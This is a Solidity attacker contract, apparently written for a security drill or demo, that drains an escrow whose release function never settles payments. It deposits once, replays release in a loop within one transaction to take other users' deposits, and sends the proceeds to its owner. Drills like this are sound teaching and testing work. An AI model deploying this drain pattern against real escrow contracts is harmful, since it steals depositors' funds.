// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice The part of the escrow the drainer calls.
interface IDrainableEscrow {
    function deposit(bytes32 integraHash, address token, uint256 amount, address payee)
        external
        payable
        returns (uint256 paymentId);
    function release(uint256 paymentId) external;
}

/// @title EscrowDrainer
/// @notice FOR THE DRILL ONLY: the attacker's contract in `guardian demo`. Against an escrow whose
/// `release` forgets to settle (PaymentEscrowBuggy), it deposits once and releases the same payment
/// several times per transaction, taking other people's deposits, as real exploits loop a bug
/// inside one transaction.
contract EscrowDrainer {
    /// @notice The escrow under attack.
    IDrainableEscrow public immutable escrow;
    /// @notice Who deployed it and receives the loot.
    address public immutable owner;
    /// @notice The payment being replayed.
    uint256 public paymentId;

    /// @notice Only the owner may run the attack.
    error NotOwner();

    /// @param escrow_ The escrow to drain.
    constructor(address escrow_) {
        escrow = IDrainableEscrow(escrow_);
        owner = msg.sender;
    }

    /// @notice Deposits `msg.value` for document `integraHash`, paid to this contract, then releases
    /// it `rounds` times.
    /// @param integraHash A registered document.
    /// @param rounds Releases in this transaction.
    function attack(bytes32 integraHash, uint256 rounds) external payable {
        if (msg.sender != owner) revert NotOwner();
        paymentId = escrow.deposit{value: msg.value}(integraHash, address(0), msg.value, address(this));
        _drain(rounds);
    }

    /// @notice Releases the same payment `rounds` more times.
    /// @param rounds Releases in this transaction.
    function again(uint256 rounds) external {
        if (msg.sender != owner) revert NotOwner();
        _drain(rounds);
    }

    /// @notice Sends everything taken to the owner.
    function cashOut() external {
        if (msg.sender != owner) revert NotOwner();
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "cash out failed");
    }

    /// @notice Takes the escrow's payouts.
    receive() external payable {}

    function _drain(uint256 rounds) private {
        for (uint256 i = 0; i < rounds; i++) {
            escrow.release(paymentId);
        }
    }
}
